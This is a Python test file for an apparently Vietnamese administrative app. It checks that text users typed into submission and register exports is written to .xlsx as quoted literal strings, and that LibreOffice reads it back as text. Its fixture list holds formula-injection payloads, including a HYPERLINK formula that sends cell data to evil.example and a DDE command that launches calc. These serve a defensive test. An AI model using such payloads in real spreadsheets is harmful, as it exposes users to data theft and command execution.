"""Text users typed never becomes a live formula in the .xlsx exports (the clerk's list and
the register): it is a string cell, and LibreOffice reads it back as the literal text."""

from __future__ import annotations

import csv
import io
import subprocess

import openpyxl
import pytest

from services.register import export_register
from services.spreadsheets import export_submissions
from storage.models import Document
from storage.models import Submission
from tests.support import issued_plans

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _submissions() -> list[Submission]:
    return [
        Submission(
            kind="commendation",
            nominee_name=text,
            position=text,
            unit=text,
            status="submitted",
            data={"title": text},
            decision_note=text,
        )  # fmt: skip
        for text in HOSTILE
    ]


def _documents() -> list[Document]:
    return issued_plans(HOSTILE)


EXPORTS = {
    "submissions": lambda: export_submissions(_submissions()),
    "register": lambda: export_register(_documents(), 2026, "=1+1"),
}


@pytest.mark.parametrize("name", EXPORTS)
def test_typed_text_is_written_as_text_not_formula(name):
    sheet = openpyxl.load_workbook(io.BytesIO(EXPORTS[name]())).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    for text in HOSTILE:
        typed = [c for c in cells if c.value.strip() == text.strip()]
        assert typed, (name, text)  # the text is in the export, as typed
        for cell in typed:
            assert cell.data_type == "s" and cell.quotePrefix, (name, cell.coordinate, text)


@pytest.mark.slow
def test_libreoffice_shows_the_literal_text(tmp_path):
    content = EXPORTS["submissions"]()
    source = tmp_path / "danh-sach.xlsx"
    source.write_bytes(content)
    converted = subprocess.run(
        [
            "soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
            "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",  # 76: UTF-8
            "--outdir", str(tmp_path), str(source),
        ],
        capture_output=True, timeout=120,
    )  # fmt: skip
    if b"could not be loaded" in converted.stderr:
        pytest.skip("LibreOffice Calc is not installed (Debian: libreoffice-calc-nogui)")
    assert converted.returncode == 0, converted.stderr
    rows = list(csv.reader((tmp_path / "danh-sach.csv").read_text(encoding="utf-8").splitlines()))
    values = {value for row in rows for value in row}
    assert set(HOSTILE[:5]) <= values  # the literal text: not "Bấm vào đây", not an error
